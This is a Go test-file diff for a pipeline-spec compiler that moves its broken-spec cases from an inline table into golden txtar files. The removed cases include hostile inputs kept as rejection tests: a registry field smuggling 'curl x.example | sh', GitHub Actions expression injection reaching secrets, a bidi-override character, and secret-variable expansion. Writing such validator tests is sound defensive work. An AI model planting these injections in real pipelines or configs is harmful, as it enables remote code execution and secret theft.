@@ -10,6 +10,8 @@ import (
 	"strings"
 	"testing"
 
+	"golang.org/x/tools/txtar"
+
 	"github.com/mlc-project/mlc/internal/golden"
 	"github.com/mlc-project/mlc/ir"
 	"github.com/mlc-project/mlc/targets"
@@ -40,53 +42,32 @@ func writeSpec(t *testing.T, files map[string]string) string {
 	return dir
 }
 
+// TestBrokenSpecs compiles every case of testdata/broken, a txtar archive
+// of spec files and the error ("-- error --") compiling them must give,
+// for every engine: it fails with exactly that error, positioned, as cue's
+// and actionlint's cases do. A case is added by adding a file; go test
+// ./compiler -update writes its error.
 func TestBrokenSpecs(t *testing.T) {
-	for _, tc := range []struct {
-		name string
-		spec string
-		pos  string // file:line:col the error must point at
-		msg  string // substring of the message
-	}{
-		{"syntax error", base + "apps: a: {model: \"m\"\n", "pipeline.cue:9:22", "expected"},
-		{"type error", strings.Replace(base, `run: "python train.py"}`, `run: "python train.py", retries: "two"}`, 1), "pipeline.cue:6:", "retries"},
-		{"unknown dataset", strings.Replace(base, `data: ["d"]`, `data: ["e"]`, 1), "pipeline.cue:6:", `unknown dataset "e"`},
-		{"missing required field", strings.Replace(base, `, run: "python train.py"`, "", 1), "pipeline.cue:", "run"},
-		{"unknown field", base + "colour: \"red\"\n", "pipeline.cue:9:1", "colour: field not allowed"},
-		{"cycle", base + `apps: a: {model: "m", image: context: "svc"}
-environments: {
-	staging: {app: "a", after: "production"}
-	production: {app: "a", after: "staging"}
-}
-`, "pipeline.cue:1", "dependency cycle"},
-		{"two sources", strings.Replace(base, `source: local: path: "data"`, `source: {local: path: "data", http: url: "https://x.example/d.csv"}`, 1), "pipeline.cue:4:", "2 source adapters set (http, local)"},
-		{"undeclared secret", strings.Replace(base, `run: "python train.py"}`, `run: "python train.py", secrets: ["HF_TOKEN"]}`, 1), "pipeline.cue:6:", "secret HF_TOKEN is not declared"},
-		{"github expression", strings.Replace(base, `python eval.py`, `echo ${{ github.event.issue.title }}`, 1), "pipeline.cue:7:", "GitHub Actions expression"},
-		{"github expression in a key", strings.Replace(base, `run: "python train.py"}`, `run: "python train.py", params: {"x${{ secrets.KUBECONFIG_PRODUCTION }}": 1}}`, 1), "pipeline.cue:6:", `key "x${{ secrets.KUBECONFIG_PRODUCTION }}" contains ${{`},
-		{"tekton substitution", strings.Replace(base, `python eval.py`, `python eval.py $(params.x)`, 1), "pipeline.cue:7:", "Tekton variable substitution"},
-		{"argo template in a key", strings.Replace(base, `run: "python train.py"}`, `run: "python train.py", params: {"{{workflow.name}}": 1}}`, 1), "pipeline.cue:6:", `key "{{workflow.name}}" contains {{ (Argo template expression)`},
-		{"bidi override", strings.Replace(base, `python eval.py`, "python eval.py \u202e#", 1), "pipeline.cue:7:", "invisible character U+202E"},
-		{"NUL in a key", strings.Replace(base, `run: "python train.py"}`, `run: "python train.py", params: {"a\u0000b": 1}}`, 1), "pipeline.cue:6:", "invisible character U+0000"},
-		{"secret through a param", strings.Replace(base, `run: "python train.py"}`, `run: "python train.py", params: {note: "${COSIGN_PASSWORD}"}}`, 1), "pipeline.cue:7:", "would expand ${COSIGN_PASSWORD}"},
-		{"pull requests would need secrets", strings.Replace(base, `source: local: path: "data"`, `{source: http: url: "https://x.example/d.csv", secrets: ["TOKEN"]}`, 1) + "secrets: [\"TOKEN\"]\ntriggers: pull_request: {}\n", "pipeline.cue:4:", "dataset d needs TOKEN to fetch, and pull requests check it too"},
-		{"registry with shell text", base + "registry: \"ghcr.io/acme/ml; curl x.example | sh\"\n", "pipeline.cue:9:", "registry: invalid value"},
-		{"branch pattern with a space", base + "triggers: push: branches: [\"main dev\"]\n", "pipeline.cue:9:", "invalid value"},
-		{"branch pattern with a newline", base + "triggers: pull_request: branches: [\"main\\nx\"]\n", "pipeline.cue:9:", "invalid value"},
-		{"deep nesting", base + "_x: " + strings.Repeat("{a: ", 20000) + "1" + strings.Repeat("}", 20000) + "\n", "pipeline.cue:9:", "exceeds maximum nesting depth"},
-		{"bad gate", strings.Replace(base, `">= 0.9"`, `"at least 0.9"`, 1), "pipeline.cue:7:", "gates.accuracy"},
-		{"no_regression without production", strings.Replace(base, `gates: accuracy: ">= 0.9"`, `no_regression: ["accuracy"]`, 1), "pipeline.cue:7:", "no environment deploys model m"},
-		{"unknown after", base + `steps: s: {image: "alpine", run: "true", after: ["models.x"]}` + "\n", "pipeline.cue:9:", `unknown model "x"`},
-		{"nothing triggers", base + "triggers: manual: false\n", "pipeline.cue:9:", "nothing starts workflow p-delivery"},
-		{"batch prediction without batch", base + `apps: a: {model: "m", image: context: "svc", prediction: ["batch"]}` + "\nenvironments: prod: app: \"a\"\n", "pipeline.cue:9:", `"batch" prediction without apps.a.batch`},
-		{"batch without batch prediction", base + `apps: a: {model: "m", image: context: "svc", batch: {data: "d", run: "python s.py"}}` + "\nenvironments: prod: app: \"a\"\n", "pipeline.cue:9:", `apps.a.batch without "batch" in prediction`},
-		{"batch without production", base + `apps: a: {model: "m", image: context: "svc", prediction: ["batch"], batch: {data: "d", run: "python s.py"}}` + "\n", "pipeline.cue:9:", "no environment deploys app a"},
-		{"batch of an unknown dataset", base + `apps: a: {model: "m", image: context: "svc", prediction: ["batch"], batch: {data: "e", run: "python s.py"}}` + "\nenvironments: prod: app: \"a\"\n", "pipeline.cue:9:", `unknown dataset "e"`},
-		{"alert without a channel", base + "alert: {}\n", "pipeline.cue:9:", "alert names no channel"},
-		{"alert channel of two kinds", base + "secrets: [\"HOOK\"]\nalert: channels: ops: {slack: url_secret: \"HOOK\", github_issue: {}}\n", "pipeline.cue:10:", "2 channel kinds set (slack, github_issue)"},
-		{"alert channel secret undeclared", base + "alert: channels: ops: webhook: url_secret: \"HOOK\"\n", "pipeline.cue:9:", "alert.channels.ops.webhook.url_secret: secret HOOK is not declared"},
-		{"alert repo not owner/name", base + "alert: channels: issues: github_issue: repo: \"acme\"\n", "pipeline.cue:9:", "repo: invalid value"},
-	} {
-		t.Run(tc.name, func(t *testing.T) {
-			dir := writeSpec(t, map[string]string{"pipeline.cue": tc.spec})
+	cases, err := filepath.Glob("testdata/broken/*.txtar")
+	if err != nil || len(cases) == 0 {
+		t.Fatalf("no cases in testdata/broken: %v", err)
+	}
+	for _, path := range cases {
+		t.Run(strings.TrimSuffix(filepath.Base(path), ".txtar"), func(t *testing.T) {
+			ar, err := txtar.ParseFile(path)
+			if err != nil {
+				t.Fatal(err)
+			}
+			files, want, spec := map[string]string{}, "", ar.Files[:0:0]
+			for _, f := range ar.Files {
+				if f.Name == "error" {
+					want = string(f.Data)
+					continue
+				}
+				files[f.Name] = string(f.Data)
+				spec = append(spec, f)
+			}
+			dir := writeSpec(t, files)
 			p, err := CompileWith(dir, Options{Engines: allEngines()})
 			if err == nil {
 				t.Fatalf("compiled a broken spec: %d workflows", len(p.Workflows))
@@ -96,17 +77,31 @@ environments: {
 			if !errors.As(err, &es) && !errors.As(err, &e) {
 				t.Fatalf("error is %T, not a positioned spec error: %v", err, err)
 			}
-			msg := err.Error()
-			if !strings.Contains(msg, tc.msg) {
-				t.Errorf("error lacks %q:\n%s", tc.msg, msg)
+			got := strings.ReplaceAll(err.Error(), dir+string(filepath.Separator), "") + "\n"
+			if !regexp.MustCompile(`(?m)^pipeline\.cue:\d+:\d+: `).MatchString(got) {
+				t.Errorf("error has no file:line:col:\n%s", got)
 			}
-			if !strings.Contains(msg, filepath.Join(dir, tc.pos)) && !strings.Contains(msg, tc.pos) {
-				t.Errorf("error lacks position %s:\n%s", tc.pos, msg)
+			if golden.Update() {
+				ar.Files = append(spec, txtar.File{Name: "error", Data: []byte(got)})
+				if err := os.WriteFile(path, txtar.Format(ar), 0o644); err != nil {
+					t.Fatal(err)
+				}
+				return
 			}
-			if !regexp.MustCompile(`pipeline\.cue:\d+:\d+: `).MatchString(msg) {
-				t.Errorf("error has no file:line:col:\n%s", msg)
+			if got != want {
+				t.Errorf("error:\n%s\nwant (-- error -- of %s; go test ./compiler -update if intended):\n%s", got, path, want)
 			}
 		})
+	}
+}
+
+// Nesting too deep for the evaluator is refused at its position (a case
+// generated here: 20,000 levels would be a 100 KB file).
+func TestDeepNesting(t *testing.T) {
+	spec := base + "_x: " + strings.Repeat("{a: ", 20000) + "1" + strings.Repeat("}", 20000) + "\n"
+	_, err := Compile(writeSpec(t, map[string]string{"pipeline.cue": spec}))
+	if err == nil || !strings.Contains(err.Error(), "pipeline.cue:9:") || !strings.Contains(err.Error(), "exceeds maximum nesting depth") {
+		t.Errorf("deep nesting: %v", err)
 	}
 }
 
